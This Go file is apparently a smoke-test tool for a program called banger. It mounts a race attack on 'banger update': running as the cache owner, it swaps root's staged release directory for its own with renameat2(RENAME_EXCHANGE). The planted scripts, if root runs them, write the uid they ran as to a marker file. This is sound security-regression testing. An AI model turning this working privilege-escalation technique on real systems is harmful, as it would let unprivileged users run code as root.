// Command attacker is a smoke-test tool, not part of banger: the [P7] item 2
// attack on `banger update`. Run as the owner user while root updates, it
// pre-creates <cache>/updates (the owner owns <cache>), and whenever a staged
// release appears there it swaps the stage directory for its own with
// renameat2(RENAME_EXCHANGE), so that root's sanity run and install would
// use the owner's programs. Each of them, if ever run, writes the uid it ran
// as to the marker file. It prints how many swaps it made.
//
//	attacker CACHE MARKER DURATION
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "usage: attacker CACHE MARKER DURATION")
		os.Exit(2)
	}
	cache, marker := os.Args[1], os.Args[2]
	d, err := time.ParseDuration(os.Args[3])
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	upd := filepath.Join(cache, "updates")
	_ = os.MkdirAll(upd, 0o755)
	evil := filepath.Join(upd, "evil")
	_ = os.MkdirAll(evil, 0o755)
	script := fmt.Sprintf("#!/bin/sh\nid -u > %s\necho \"banger evil\"\n", marker)
	for _, b := range []string{"banger", "bangerd", "banger-vmm", "banger-agent"} {
		if err := os.WriteFile(filepath.Join(evil, b), []byte(script), 0o755); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
	stage := filepath.Join(upd, "stage")
	swaps := 0
	for end := time.Now().Add(d); time.Now().Before(end); {
		// The staged set is complete once the last entry exists.
		if _, err := os.Lstat(filepath.Join(stage, "banger-agent")); err == nil {
			if unix.Renameat2(unix.AT_FDCWD, stage, unix.AT_FDCWD, evil, unix.RENAME_EXCHANGE) == nil {
				swaps++
				time.Sleep(200 * time.Millisecond)
			}
		}
	}
	fmt.Printf("attacker: %d swaps\n", swaps)
}
